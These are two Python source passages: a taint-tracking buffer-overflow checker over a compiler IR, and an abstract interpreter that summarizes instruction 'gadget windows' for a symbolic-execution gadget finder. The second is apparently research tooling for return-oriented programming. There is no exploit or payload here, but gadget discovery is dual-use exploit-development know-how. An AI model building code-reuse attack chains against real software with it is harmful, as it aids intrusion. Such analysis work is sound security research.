    callee: Optional[str] = None  # function doing the write, if not direct

    def describe(self) -> str:
        where = f"{self.function}(): {self.buffer_kind} buffer '{self.buffer}'"
        via = f" via {self.callee}()" if self.callee else ""
        srcs = ", ".join(sorted(self.sources)) or "<untainted>"
        return (
            f"{where} ({self.buffer_size} bytes) written at offsets "
            f"{self.offset}{via}; attacker data from: {srcs}"
        )


def _param_value_token(param: str) -> str:
    return f"{_PARAM_VALUE}{param}"


def _param_content_token(param: str) -> str:
    return f"{_PARAM_CONTENT}{param}"


class ModuleChecker:
    """Runs the overflow analysis over a whole IR module."""

    def __init__(
        self, module: ir.IRModule, *, sources: Iterable[str] = DEFAULT_SOURCES
    ) -> None:
        self.module = module
        self.sources = tuple(sources)
        self.summaries: Dict[str, FunctionSummary] = {}
        self.findings: List[OverflowFinding] = []
        #: May-taint of data stored into global/local regions so far.
        self._global_content: Dict[str, Taint] = {}
        self._finding_keys: Set[Tuple] = set()

    # -- sources ----------------------------------------------------------

    def is_source_global(self, name: str) -> bool:
        return any(name.startswith(prefix) for prefix in self.sources)

    def global_content_taint(self, name: str) -> Taint:
        if self.is_source_global(name):
            return frozenset({name})
        return self._global_content.get(name, _NO_TAINT)

    # -- entry point ------------------------------------------------------

    def check(self) -> List[OverflowFinding]:
        for name in self._bottom_up_order():
            self.summaries[name] = _FunctionChecker(self, self.module.functions[name]).run()
        return self.findings

    def _bottom_up_order(self) -> List[str]:
        """Callees before callers; members of call cycles in arbitrary
        order (they see no summary for each other — conservative)."""
        order: List[str] = []
        state: Dict[str, int] = {}  # 0 = visiting, 1 = done

        def visit(name: str) -> None:
            if name in state:
                return
            state[name] = 0
            fn = self.module.functions[name]
            for block in fn.blocks.values():
                for instr in block.instrs:
                    if isinstance(instr, ir.CallInstr) and instr.func in self.module.functions:
                        visit(instr.func)
            state[name] = 1
            order.append(name)

        for name in self.module.functions:
            visit(name)
        return order

    # -- findings ---------------------------------------------------------

    def region_size(self, fn: ir.IRFunction, kind: str, name: str) -> Optional[int]:
        if kind == "local":
            return fn.local_arrays.get(name)
        if kind == "global":
            return self.module.global_vars.get(name)
        return None

    def record_write(
        self,
        fn: ir.IRFunction,
        kind: str,
        name: str,
        offset: Interval,
        width: int,
        value_taint: Taint,
        addr_taint: Taint,
        callee: Optional[str],
    ) -> None:
        """Check one resolved write against its target region."""
        if kind in ("local", "global"):
            self._global_content[name] = self.global_content_taint(name) | value_taint
        size = self.region_size(fn, kind, name)
        if size is None:
            return
        in_bounds = offset.is_bounded and offset.hi + width <= size
        taint = value_taint | addr_taint
        if in_bounds or not taint:
            return
        key = (fn.name, kind, name, callee, width)
        if key in self._finding_keys:
            return
        self._finding_keys.add(key)
        self.findings.append(
            OverflowFinding(
                function=fn.name,
                buffer=name,
                buffer_kind=kind,
                buffer_size=size,
                width=width,
                offset=offset,
                sources=taint,
                callee=callee,
            )
        )


class _FunctionChecker:
    """Intra-procedural worklist analysis of one function."""

    def __init__(self, owner: ModuleChecker, fn: ir.IRFunction) -> None:
        self.owner = owner
        self.fn = fn
        self.summary = FunctionSummary(name=fn.name)
        #: May-taint of data stored into each local array so far.
        self._local_content: Dict[str, Taint] = {}
        self._param_writes: Dict[Tuple[str, int], ParamWrite] = {}
        self._loop_heads = self._find_loop_heads()

    def _find_loop_heads(self) -> Set[str]:
        """Back-edge targets: the only blocks where widening applies.
        Widening anywhere else would destroy branch refinements (a
        bounds check inside a loop body joins refined states on every
        revisit, and must converge by *join*, not blow up to top)."""
        heads: Set[str] = set()
        visited: Set[str] = set()
        on_stack: Set[str] = set()
        stack: List[Tuple[str, int]] = [(self.fn.entry, 0)]
        while stack:
            label, idx = stack.pop()
            block = self.fn.blocks.get(label)
            succs = block.successors() if block is not None else ()
            if idx == 0:
                visited.add(label)
                on_stack.add(label)
            if idx < len(succs):
                stack.append((label, idx + 1))
                succ = succs[idx]
                if succ in on_stack:
                    heads.add(succ)
                elif succ not in visited:
                    stack.append((succ, 0))
            else:
                on_stack.discard(label)
        return heads

    def run(self) -> FunctionSummary:
        entry_env = {
            p: AVal(
                taint=frozenset({_param_value_token(p)}),
                interval=Interval.top(),
                pts=frozenset({("param", p, Interval.const(0))}),
            )
            for p in self.fn.params
        }
        in_states: Dict[str, Dict[str, AVal]] = {self.fn.entry: entry_env}
        visits: Dict[str, int] = {}
        work = [self.fn.entry]
        while work:
            label = work.pop(0)
            block = self.fn.blocks.get(label)
            if block is None:
                continue
            visits[label] = visits.get(label, 0) + 1
            env = dict(in_states.get(label, {}))
            for instr in block.instrs:
                self._transfer(env, instr)
            for succ, succ_env in self._terminator_envs(env, block.terminator):
                old = in_states.get(succ)
                if old is None:
                    in_states[succ] = succ_env
                    work.append(succ)
                    continue
                widen = succ in self._loop_heads and visits.get(succ, 0) >= _WIDEN_AFTER
                merged = self._merge_env(old, succ_env, widen)
                if merged != old:
                    in_states[succ] = merged
                    if succ not in work:
                        work.append(succ)
        self.summary.param_writes = list(self._param_writes.values())
        return self.summary

    # -- environment plumbing ---------------------------------------------

    @staticmethod
    def _merge_env(
        old: Dict[str, AVal], new: Dict[str, AVal], widen: bool
    ) -> Dict[str, AVal]:
        merged = dict(old)
        for name, val in new.items():
            prev = merged.get(name)
            if prev is None:
                merged[name] = val
            else:
                merged[name] = prev.widen(val) if widen else prev.join(val)
        return merged

    def _eval(self, env: Dict[str, AVal], value: ir.Value) -> AVal:
        if isinstance(value, ir.Const):
            v = value.value
            if 0 <= v < 1 << 63:
                return AVal(interval=Interval.const(v))
            return AVal()  # negative / wrapping constants: unknown range
        return env.get(value.name, _UNKNOWN)

    # -- transfer functions -------------------------------------------------

    def _transfer(self, env: Dict[str, AVal], instr: ir.IRInstr) -> None:
        if isinstance(instr, ir.Copy):
            env[instr.dst.name] = self._eval(env, instr.src)
            return
        if isinstance(instr, ir.BinOp):
            env[instr.dst.name] = self._binop(env, instr)
            return
        if isinstance(instr, ir.UnOp):
            src = self._eval(env, instr.src)
            env[instr.dst.name] = AVal(taint=src.taint)
            return
        if isinstance(instr, ir.CmpSet):
            taint = self._eval(env, instr.lhs).taint | self._eval(env, instr.rhs).taint
            env[instr.dst.name] = AVal(taint=taint, interval=Interval(0, 1))
            return
        if isinstance(instr, ir.Load):
            env[instr.dst.name] = self._load(env, instr)
            return
        if isinstance(instr, ir.Store):
            self._store(env, instr)
            return
        if isinstance(instr, ir.AddrOfLocal):
            env[instr.dst.name] = AVal(
                pts=frozenset({("local", instr.local, Interval.const(0))})
            )
            return
        if isinstance(instr, ir.AddrOfGlobal):
            env[instr.dst.name] = AVal(
                pts=frozenset({("global", instr.symbol, Interval.const(0))})
            )
            return
        if isinstance(instr, ir.CallInstr):
            self._call(env, instr)
            return
        # Unknown instruction kind (future IR extension): conservatively
        # flow the union of use taints into every def.
        uses = [self._eval(env, v) for v in ir.instr_uses(instr)]
        taint = frozenset().union(*(u.taint for u in uses)) if uses else _NO_TAINT
        for dst in ir.instr_defs(instr):
            env[dst.name] = AVal(taint=taint)

    def _binop(self, env: Dict[str, AVal], instr: ir.BinOp) -> AVal:
        lhs = self._eval(env, instr.lhs)
        rhs = self._eval(env, instr.rhs)
        taint = lhs.taint | rhs.taint
        op = instr.op
        if op == "add":
            interval = lhs.interval.add(rhs.interval)
            pts = set()
            for kind, name, off in lhs.pts:
                pts.add((kind, name, off.add(rhs.interval)))
            for kind, name, off in rhs.pts:
                pts.add((kind, name, off.add(lhs.interval)))
            return AVal(taint=taint, interval=interval, pts=frozenset(pts))
        if op == "sub" and isinstance(instr.rhs, ir.Const):
            k = instr.rhs.value
            pts = frozenset(
                (kind, name, off.sub_const(k)) for kind, name, off in lhs.pts
            )
            return AVal(taint=taint, interval=lhs.interval.sub_const(k), pts=pts)
        if op == "mul":
            if isinstance(instr.rhs, ir.Const) and instr.rhs.value >= 0:
                return AVal(taint=taint, interval=lhs.interval.scale(instr.rhs.value))
            if isinstance(instr.lhs, ir.Const) and instr.lhs.value >= 0:
                return AVal(taint=taint, interval=rhs.interval.scale(instr.lhs.value))
        if op in ("umod",) and isinstance(instr.rhs, ir.Const) and instr.rhs.value > 0:
            return AVal(taint=taint, interval=Interval(0, instr.rhs.value - 1))
        if op in ("and",) and isinstance(instr.rhs, ir.Const) and instr.rhs.value >= 0:
            return AVal(taint=taint, interval=Interval(0, instr.rhs.value))
        return AVal(taint=taint)

    def _load(self, env: Dict[str, AVal], instr: ir.Load) -> AVal:
        addr = self._eval(env, instr.addr)
        taint: Taint = addr.taint
        for kind, name, _off in addr.pts:
            if kind == "global":
                taint |= self.owner.global_content_taint(name)
            elif kind == "local":
                taint |= self._local_content.get(name, _NO_TAINT)
            elif kind == "param":
                taint |= frozenset({_param_content_token(name)})
        interval = Interval(0, 255) if instr.width == 1 else Interval.top()
        return AVal(taint=taint, interval=interval)

    def _store(self, env: Dict[str, AVal], instr: ir.Store) -> None:
        addr = self._eval(env, instr.addr)
        value = self._eval(env, instr.src)
        self._apply_write(addr, instr.width, value.taint, addr.taint, callee=None)

    def _apply_write(
        self,
        addr: AVal,
        width: int,
        value_taint: Taint,
        addr_taint: Taint,
        callee: Optional[str],
        extra_offset: Optional[Interval] = None,
    ) -> None:
        for kind, name, off in addr.pts:
            offset = off if extra_offset is None else off.add(extra_offset)
            if kind == "param":
                self._add_param_write(
                    ParamWrite(
                        param=name,
                        offset=offset,
                        width=width,
                        value_taint=value_taint,
                        addr_taint=addr_taint,
                    )
                )
                continue
            if kind == "local":
                self._local_content[name] = (
                    self._local_content.get(name, _NO_TAINT) | value_taint
                )
            self.owner.record_write(
                self.fn, kind, name, offset, width, value_taint, addr_taint, callee
            )

    def _add_param_write(self, write: ParamWrite) -> None:
        key = (write.param, write.width)
        old = self._param_writes.get(key)
        if old is None:
            self._param_writes[key] = write
        else:
            self._param_writes[key] = ParamWrite(
                param=write.param,
                offset=old.offset.join(write.offset),
                width=write.width,
                value_taint=old.value_taint | write.value_taint,
                addr_taint=old.addr_taint | write.addr_taint,
            )

    # -- calls ---------------------------------------------------------------

    def _content_taint_of(self, arg: AVal) -> Taint:
        """Taint of the memory reachable through ``arg``'s pointers."""
        taint: Taint = _NO_TAINT
        for kind, name, _off in arg.pts:
            if kind == "global":
                taint |= self.owner.global_content_taint(name)
            elif kind == "local":
                taint |= self._local_content.get(name, _NO_TAINT)
            elif kind == "param":
                taint |= frozenset({_param_content_token(name)})
        return taint

    def _translate(
        self, tokens: Taint, args: Dict[str, AVal]
    ) -> Taint:
        """Rewrite a callee's param:* placeholder tokens for this site."""
        out: Set[str] = set()
        for token in tokens:
            if token.startswith(_PARAM_CONTENT):
                arg = args.get(token[len(_PARAM_CONTENT):])
                if arg is not None:
                    out |= self._content_taint_of(arg)
            elif token.startswith(_PARAM_VALUE):
                arg = args.get(token[len(_PARAM_VALUE):])
                if arg is not None:
                    out |= arg.taint
            else:
                out.add(token)
        return frozenset(out)

    def _call(self, env: Dict[str, AVal], instr: ir.CallInstr) -> None:
        arg_vals = [self._eval(env, a) for a in instr.args]
        summary = self.owner.summaries.get(instr.func)
        if summary is None:
            # Builtin, or a member of a recursive cycle: no summary.
            # Conservatively flow argument taint to the result.
            if instr.dst is not None:
                taint = frozenset().union(*(a.taint for a in arg_vals)) if arg_vals else _NO_TAINT
                env[instr.dst.name] = AVal(taint=taint)
            return
        callee = self.owner.module.functions[instr.func]
        by_param = dict(zip(callee.params, arg_vals))
        for write in summary.param_writes:
            arg = by_param.get(write.param)
            if arg is None:
                continue
            value_taint = self._translate(write.value_taint, by_param)
            addr_taint = self._translate(write.addr_taint, by_param) | arg.taint
            self._apply_write(
                arg,
                write.width,
                value_taint,
                addr_taint,
                callee=instr.func,
                extra_offset=write.offset,
            )
        if instr.dst is not None:
            env[instr.dst.name] = AVal(taint=self._translate(summary.ret_taint, by_param))

    # -- terminators ---------------------------------------------------------

    def _terminator_envs(
        self, env: Dict[str, AVal], term: Optional[ir.Terminator]
    ) -> List[Tuple[str, Dict[str, AVal]]]:
        if isinstance(term, ir.Jump):
            return [(term.target, env)]
        if isinstance(term, ir.Branch):
            then_env = self._refine(env, term.op, term.lhs, term.rhs)
            els_env = self._refine(env, ir.negate_cmp(term.op), term.lhs, term.rhs)
            return [(term.then, then_env), (term.els, els_env)]
        if isinstance(term, ir.Ret) and term.value is not None:
            self.summary.ret_taint |= self._eval(env, term.value).taint
        return []

    def _refine(
        self, env: Dict[str, AVal], op: str, lhs: ir.Value, rhs: ir.Value
    ) -> Dict[str, AVal]:
        """Narrow interval facts along a branch edge."""
        refined = dict(env)
        self._refine_one(refined, op, lhs, self._eval(env, rhs).interval)
        self._refine_one(refined, ir.swap_cmp(op), rhs, self._eval(env, lhs).interval)
        return refined

    def _refine_one(
        self, env: Dict[str, AVal], op: str, value: ir.Value, bound: Interval
    ) -> None:
        if not isinstance(value, ir.Temp):
            return
        old = env.get(value.name, _UNKNOWN)
        interval = old.interval
        if op == "ult":
            interval = interval.clamp_below(bound.hi)
        elif op == "ule":
            interval = interval.clamp_below_eq(bound.hi)
        elif op == "ugt":
            interval = interval.clamp_above_eq(bound.lo + 1)
        elif op == "uge":
            interval = interval.clamp_above_eq(bound.lo)
        elif op == "eq":
            interval = interval.clamp_below_eq(bound.hi).clamp_above_eq(bound.lo)
        else:
            return
        if interval.hi is not INF and interval.hi < interval.lo:
            # Infeasible edge; keep the old facts (sound, just imprecise).
            return
        env[value.name] = replace(old, interval=interval)
