"""Flow-sensitive abstract interpretation of gadget windows.

:class:`WindowAnalyzer` runs the same machine the symbolic executor
runs, but over the cheap abstract domain of ``domain.py``: registers
hold flat ``Const`` / ``InitReg + offset`` / ``TOP`` values, flags are
three-valued, and the stack is a map from known rsp0-relative offsets
to abstract values.  One pass over a window yields a
:class:`WindowSummary` — the clobbered-register set, the stack-pointer
delta as a lattice value, the memory-write footprint, and the set of
reachable indirect-transfer kinds — without building a single symbolic
expression.

Two soundness properties connect this to the symbolic pipeline:

* **Prefilter** (:meth:`WindowAnalyzer.reaches_transfer`): a candidate
  is culled only when the decode graph proves no executor walk of at
  most ``max_insns`` instructions ends at an indirect transfer.  Every
  symbolic path is such a walk (merged direct jumps included), so a
  culled candidate yields only DEAD paths — zero Table II records.
* **Mirroring**: the interpreter claims a definite abstract fact
  (``Const``, a definite :class:`~.domain.Tribool`) only where the
  executor's expression folds to the corresponding literal
  (``BVConst`` / ``BoolConst``).  In particular a conditional branch is
  pruned to one side only when the executor would statically resolve it
  the same way, so the abstractly explored paths are a superset of the
  symbolic ones and every summary field is a *may* over-approximation.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, FrozenSet, List, Optional, Set, Tuple

from ..isa.instructions import Instruction, Op, OP_TABLE
from ..isa.registers import ALL_REGS, Reg
from ..symex.executor import EndKind
from .decode_graph import DecodeGraph
from .domain import (
    BOT,
    TOP,
    AbsVal,
    Const,
    InitReg,
    Tribool,
    abs_add,
    abs_binop,
    abs_shift,
    abs_sub,
    abs_unop,
    join,
)

_RSP = int(Reg.RSP)


def _initial_regs() -> Dict[Reg, AbsVal]:
    return {r: InitReg(int(r)) for r in ALL_REGS}


def _tricmp(op: str, a: AbsVal, b: AbsVal) -> Tribool:
    """Mirror of ``expr.cmp``'s folding over the abstract domain."""
    if isinstance(a, Const) and isinstance(b, Const):
        x, y = a.value, b.value
        if op == "eq":
            return Tribool.of(x == y)
        if op == "ne":
            return Tribool.of(x != y)
        if op == "ult":
            return Tribool.of(x < y)
        if op == "ule":
            return Tribool.of(x <= y)
        sx = x - (1 << 64) if x >> 63 else x
        sy = y - (1 << 64) if y >> 63 else y
        if op == "slt":
            return Tribool.of(sx < sy)
        if op == "sle":
            return Tribool.of(sx <= sy)
        raise AssertionError(op)
    if a == b and isinstance(a, (Const, InitReg)):
        # expr.cmp folds structurally equal operands.
        if op in ("eq", "ule", "sle"):
            return Tribool.TRUE
        if op in ("ne", "ult", "slt"):
            return Tribool.FALSE
    return Tribool.UNKNOWN


def _sign(v: AbsVal) -> Tribool:
    return _tricmp("slt", v, Const(0))


@dataclass(frozen=True)
class AbsFlags:
    """Three-valued flags with the producing operation's kind/operands,
    mirroring ``symex.state.FlagsState``."""

    kind: str  # "initial" | "sub" | "add" | "logic"
    zf: Tribool
    sf: Tribool
    cf: Tribool
    of: Tribool
    a: AbsVal = TOP
    b: AbsVal = TOP
    # Mirrors ``FlagsState.cf_patched``: CF was rewritten post hoc
    # (INC/DEC preserve CF), so unsigned conditions must read ``cf``.
    cf_patched: bool = False

    @classmethod
    def initial(cls) -> "AbsFlags":
        u = Tribool.UNKNOWN
        return cls("initial", u, u, u, u)

    @classmethod
    def from_sub(cls, a: AbsVal, b: AbsVal, result: AbsVal) -> "AbsFlags":
        sa, sb, sr = _sign(a), _sign(b), _sign(result)
        return cls(
            "sub",
            zf=_tricmp("eq", a, b),
            sf=sr,
            cf=_tricmp("ult", a, b),
            of=(sa ^ sb) & (sr ^ sa),
            a=a,
            b=b,
        )

    @classmethod
    def from_add(cls, a: AbsVal, b: AbsVal, result: AbsVal) -> "AbsFlags":
        sa, sb, sr = _sign(a), _sign(b), _sign(result)
        return cls(
            "add",
            zf=_tricmp("eq", result, Const(0)),
            sf=sr,
            cf=_tricmp("ult", result, a),
            of=(~(sa ^ sb)) & (sr ^ sa),
        )

    @classmethod
    def from_logic(cls, result: AbsVal) -> "AbsFlags":
        return cls(
            "logic",
            zf=_tricmp("eq", result, Const(0)),
            sf=_sign(result),
            cf=Tribool.FALSE,
            of=Tribool.FALSE,
        )

    def with_cf(self, cf: Tribool) -> "AbsFlags":
        return AbsFlags(self.kind, self.zf, self.sf, cf, self.of, self.a, self.b, cf_patched=True)

    def condition(self, mnemonic: str) -> Tribool:
        """Is the given Jcc taken?  Mirrors ``FlagsState.condition``."""
        if self.kind == "sub":
            a, b = self.a, self.b
            direct = {
                "je": lambda: _tricmp("eq", a, b),
                "jne": lambda: _tricmp("ne", a, b),
                "jl": lambda: _tricmp("slt", a, b),
                "jle": lambda: _tricmp("sle", a, b),
                "jg": lambda: _tricmp("slt", b, a),
                "jge": lambda: _tricmp("sle", b, a),
                "jb": lambda: _tricmp("ult", a, b),
                "jbe": lambda: _tricmp("ule", a, b),
                "ja": lambda: _tricmp("ult", b, a),
                "jae": lambda: _tricmp("ule", b, a),
            }
            if self.cf_patched and mnemonic in ("jb", "jbe", "ja", "jae"):
                pass  # borrow of a-b is stale; fall through to patched cf
            elif mnemonic in direct:
                return direct[mnemonic]()
        sf_xor_of = self.sf ^ self.of
        generic = {
            "je": self.zf,
            "jne": ~self.zf,
            "jl": sf_xor_of,
            "jle": self.zf | sf_xor_of,
            "jg": (~self.zf) & (~sf_xor_of),
            "jge": ~sf_xor_of,
            "jb": self.cf,
            "jbe": self.cf | self.zf,
            "ja": (~self.cf) & (~self.zf),
            "jae": ~self.cf,
            "js": self.sf,
            "jns": ~self.sf,
        }
        return generic[mnemonic]


class _AbsState:
    """One abstract path's state (registers, flags, known stack)."""

    __slots__ = ("regs", "flags", "stack", "stack_write_offsets", "wild_writes")

    def __init__(self) -> None:
        self.regs: Dict[Reg, AbsVal] = _initial_regs()
        self.flags = AbsFlags.initial()
        self.stack: Dict[int, AbsVal] = {}
        self.stack_write_offsets: Set[int] = set()
        self.wild_writes = 0

    def clone(self) -> "_AbsState":
        new = _AbsState.__new__(_AbsState)
        new.regs = dict(self.regs)
        new.flags = self.flags
        new.stack = dict(self.stack)
        new.stack_write_offsets = set(self.stack_write_offsets)
        new.wild_writes = self.wild_writes
        return new

    # -- stack helpers ---------------------------------------------------

    def rsp_offset_of(self, addr: AbsVal) -> Optional[int]:
        if isinstance(addr, InitReg) and addr.reg == _RSP:
            return addr.offset
        return None

    def rsp_delta(self) -> Optional[int]:
        return self.rsp_offset_of(self.regs[Reg.RSP])

    def load(self, addr: AbsVal, width: int = 8) -> AbsVal:
        offset = self.rsp_offset_of(addr)
        if offset is not None and offset % 8 == 0 and width == 8:
            # Unwritten payload slots are stk<n> symbols: unknown.
            return self.stack.get(offset, TOP)
        if offset is not None and width == 1:
            slot = offset - (offset % 8)
            word = self.stack.get(slot, TOP)
            if isinstance(word, Const):
                return Const((word.value >> ((offset % 8) * 8)) & 0xFF)
            return TOP
        return TOP  # wild read: fresh mem<n> symbol

    def store(self, addr: AbsVal, value: AbsVal, width: int = 8) -> None:
        offset = self.rsp_offset_of(addr)
        if offset is not None and offset % 8 == 0 and width == 8:
            self.stack[offset] = value
            self.stack_write_offsets.add(offset)
            return
        if offset is not None and width == 1:
            slot = offset - (offset % 8)
            shift = (offset % 8) * 8
            old = self.stack.get(slot, TOP)
            if isinstance(old, Const) and isinstance(value, Const):
                merged: AbsVal = Const(
                    (old.value & ~(0xFF << shift)) | ((value.value & 0xFF) << shift)
                )
            else:
                merged = TOP
            self.stack[slot] = merged
            self.stack_write_offsets.add(offset)
            return
        self.wild_writes += 1

    def push(self, value: AbsVal) -> None:
        new_rsp = abs_sub(self.regs[Reg.RSP], Const(8))
        self.regs[Reg.RSP] = new_rsp
        self.store(new_rsp, value, 8)

    def pop(self) -> AbsVal:
        rsp = self.regs[Reg.RSP]
        value = self.load(rsp, 8)
        self.regs[Reg.RSP] = abs_add(rsp, Const(8))
        return value


@dataclass(frozen=True)
class WindowSummary:
    """Static dataflow summary of one gadget candidate window."""

    start_addr: int
    #: Sound: False proves symex yields no usable path from here.
    reaches_transfer: bool
    #: May-set of indirect-transfer kinds some path can end with.
    ends: FrozenSet[EndKind]
    #: May-clobbered registers over all transfer-ending paths.
    clobbered: FrozenSet[Reg]
    #: rsp delta at the transfer: Const / TOP (unknown) / BOT (no path).
    stack_delta: AbsVal
    #: Known rsp0-relative byte offsets some path writes.
    stack_write_offsets: FrozenSet[int]
    #: Whether some path writes through a non-rsp0-relative pointer.
    has_wild_writes: bool
    #: Instruction count of the shortest transfer-ending path.
    min_insns: int
    #: Whether some explored path forked on a conditional jump.
    conditional: bool
    #: Whether some explored path merged a direct jmp/call.
    merged_direct_jumps: bool
    #: Exploration hit the step cap: may-sets above may be incomplete.
    truncated: bool

    @property
    def usable(self) -> bool:
        """Could symbolic execution emit any record for this window?"""
        return self.reaches_transfer

    @property
    def known_stack_delta(self) -> Optional[int]:
        return self.stack_delta.value if isinstance(self.stack_delta, Const) else None


_END_KINDS = {
    Op.RET: EndKind.RET,
    Op.JMP_R: EndKind.JMP_REG,
    Op.JMP_M: EndKind.JMP_MEM,
    Op.CALL_R: EndKind.CALL_REG,
    Op.SYSCALL: EndKind.SYSCALL,
}


class WindowAnalyzer:
    """Abstract interpreter over a :class:`DecodeGraph`."""

    def __init__(self, graph: DecodeGraph, *, max_insns: int = 16, max_steps: int = 256) -> None:
        self.graph = graph
        self.max_insns = max_insns
        self.max_steps = max_steps

    # -- the semantic prefilter predicate ----------------------------------

    def reaches_transfer(self, addr: int) -> bool:
        """True unless the window at ``addr`` provably yields no usable
        symbolic path within the ``max_insns`` budget (sound cull)."""
        return self.graph.reaches_transfer_within(addr - self.graph.base_addr, self.max_insns)

    # -- full window summaries ----------------------------------------------

    def summarize(self, addr: int) -> WindowSummary:
        offset = addr - self.graph.base_addr
        reaches = self.graph.reaches_transfer_within(offset, self.max_insns)
        ends: Set[EndKind] = set()
        clobbered: Set[Reg] = set()
        stack_delta: AbsVal = BOT
        stack_writes: Set[int] = set()
        wild = False
        min_insns = 0
        conditional = False
        merged_any = False
        truncated = False

        if reaches:
            work: List[Tuple[int, _AbsState, int, bool]] = [(offset, _AbsState(), 0, False)]
            steps = 0
            while work:
                if steps >= self.max_steps:
                    truncated = True
                    break
                cursor, state, count, merged = work.pop()
                end = self._run_path(work, cursor, state, count, merged)
                steps += 1
                if end is None:
                    continue
                kind, state, count, merged, forked = end
                ends.add(kind)
                clobbered.update(
                    r for r in ALL_REGS if state.regs[r] != InitReg(int(r))
                )
                delta = state.rsp_delta()
                stack_delta = join(
                    stack_delta, Const(delta) if delta is not None else TOP
                )
                stack_writes.update(state.stack_write_offsets)
                wild = wild or state.wild_writes > 0
                min_insns = count if min_insns == 0 else min(min_insns, count)
                conditional = conditional or forked
                merged_any = merged_any or merged

        return WindowSummary(
            start_addr=addr,
            reaches_transfer=reaches,
            ends=frozenset(ends),
            clobbered=frozenset(clobbered),
            stack_delta=stack_delta,
            stack_write_offsets=frozenset(stack_writes),
            has_wild_writes=wild,
            min_insns=min_insns,
            conditional=conditional,
            merged_direct_jumps=merged_any,
            truncated=truncated,
        )

    def _run_path(
        self,
        work: List[Tuple[int, _AbsState, int, bool]],
        cursor: int,
        state: _AbsState,
        count: int,
        merged: bool,
    ) -> Optional[Tuple[EndKind, _AbsState, int, bool, bool]]:
        """Run one abstract path until a transfer, a dead end, or the
        instruction budget; forked branches go onto ``work``."""
        forked = False
        while count < self.max_insns:
            insn = self.graph.decode_at(cursor)
            if insn is None or insn.op == Op.HLT:
                return None
            count += 1
            op = insn.op
            if op == Op.RET:
                state.load(state.regs[Reg.RSP], 8)
                state.regs[Reg.RSP] = abs_add(state.regs[Reg.RSP], Const(8))
                return (EndKind.RET, state, count, merged, forked)
            if op in _END_KINDS:
                if op == Op.CALL_R:
                    state.push(Const(insn.end))
                return (_END_KINDS[op], state, count, merged, forked)
            if op == Op.JMP_REL:
                merged = True
                cursor = insn.target - self.graph.base_addr
                continue
            if op == Op.CALL_REL:
                state.push(Const(insn.end))
                merged = True
                cursor = insn.target - self.graph.base_addr
                continue
            if insn.is_cond_jump():
                taken = state.flags.condition(OP_TABLE[op].mnemonic)
                if taken.definite:
                    # The executor statically resolves this branch the
                    # same way (mirroring invariant), so no fork.
                    target = insn.target if taken is Tribool.TRUE else insn.end
                    cursor = target - self.graph.base_addr
                    continue
                forked = True
                work.append(
                    (insn.target - self.graph.base_addr, state.clone(), count, merged)
                )
                cursor = insn.end - self.graph.base_addr
                continue
            self._step(state, insn)
            cursor = insn.end - self.graph.base_addr
        return None

    def _step(self, state: _AbsState, insn: Instruction) -> None:
        """Abstract transfer function for one straight-line instruction,
        mirroring ``SymbolicExecutor._execute_straightline``."""
        op = insn.op
        regs = state.regs
        if op == Op.NOP:
            return
        if op in (Op.MOV_RI, Op.MOV_RI32):
            regs[insn.dst] = Const(insn.imm)
            return
        if op == Op.MOV_RR:
            regs[insn.dst] = regs[insn.src]
            return
        if op == Op.LOAD:
            regs[insn.dst] = state.load(abs_add(regs[insn.base], Const(insn.disp)), 8)
            return
        if op == Op.STORE:
            state.store(abs_add(regs[insn.base], Const(insn.disp)), regs[insn.src], 8)
            return
        if op == Op.LOADB:
            regs[insn.dst] = state.load(abs_add(regs[insn.base], Const(insn.disp)), 1)
            return
        if op == Op.STOREB:
            state.store(abs_add(regs[insn.base], Const(insn.disp)), regs[insn.src], 1)
            return
        if op == Op.LEA:
            regs[insn.dst] = abs_add(regs[insn.base], Const(insn.disp))
            return
        if op == Op.XCHG:
            regs[insn.dst], regs[insn.src] = regs[insn.src], regs[insn.dst]
            return
        if op == Op.PUSH_R:
            state.push(regs[insn.dst])
            return
        if op == Op.PUSH_I:
            state.push(Const(insn.imm))
            return
        if op in (Op.POP_R, Op.POP1):
            regs[insn.dst] = state.pop()
            return
        if op == Op.LEAVE:
            regs[Reg.RSP] = regs[Reg.RBP]
            regs[Reg.RBP] = state.pop()
            return
        if op in (Op.ADD_RR, Op.ADD_RI):
            a = regs[insn.dst]
            b = regs[insn.src] if op == Op.ADD_RR else Const(insn.imm)
            result = abs_add(a, b)
            state.flags = AbsFlags.from_add(a, b, result)
            regs[insn.dst] = result
            return
        if op in (Op.SUB_RR, Op.SUB_RI):
            a = regs[insn.dst]
            b = regs[insn.src] if op == Op.SUB_RR else Const(insn.imm)
            result = abs_sub(a, b)
            state.flags = AbsFlags.from_sub(a, b, result)
            regs[insn.dst] = result
            return
        if op in (Op.AND_RR, Op.AND_RI, Op.OR_RR, Op.OR_RI, Op.XOR_RR, Op.XOR_RI):
            a = regs[insn.dst]
            b = regs[insn.src] if insn.src is not None else Const(insn.imm)
            name = {
                Op.AND_RR: "and", Op.AND_RI: "and",
                Op.OR_RR: "or", Op.OR_RI: "or",
                Op.XOR_RR: "xor", Op.XOR_RI: "xor",
            }[op]
            result = abs_binop(name, a, b)
            state.flags = AbsFlags.from_logic(result)
            regs[insn.dst] = result
            return
        if op in (Op.SHL_RI, Op.SHR_RI, Op.SAR_RI):
            name = {Op.SHL_RI: "shl", Op.SHR_RI: "shr", Op.SAR_RI: "sar"}[op]
            result = abs_shift(name, regs[insn.dst], insn.imm)
            state.flags = AbsFlags.from_logic(result)
            regs[insn.dst] = result
            return
        if op == Op.MUL_RR:
            result = abs_binop("mul", regs[insn.dst], regs[insn.src])
            state.flags = AbsFlags.from_logic(result)
            regs[insn.dst] = result
            return
        if op == Op.NOT_R:
            regs[insn.dst] = abs_unop("not", regs[insn.dst])
            return
        if op == Op.NEG_R:
            result = abs_unop("neg", regs[insn.dst])
            state.flags = AbsFlags.from_logic(result)
            regs[insn.dst] = result
            return
        if op == Op.INC_R:
            a = regs[insn.dst]
            result = abs_add(a, Const(1))
            state.flags = AbsFlags.from_add(a, Const(1), result).with_cf(state.flags.cf)
            regs[insn.dst] = result
            return
        if op == Op.DEC_R:
            a = regs[insn.dst]
            result = abs_sub(a, Const(1))
            state.flags = AbsFlags.from_sub(a, Const(1), result).with_cf(state.flags.cf)
            regs[insn.dst] = result
            return
        if op in (Op.UDIV_RR, Op.UMOD_RR):
            name = "udiv" if op == Op.UDIV_RR else "umod"
            regs[insn.dst] = abs_binop(name, regs[insn.dst], regs[insn.src])
            return
        if op in (Op.CMP_RR, Op.CMP_RI):
            a = regs[insn.dst]
            b = regs[insn.src] if op == Op.CMP_RR else Const(insn.imm)
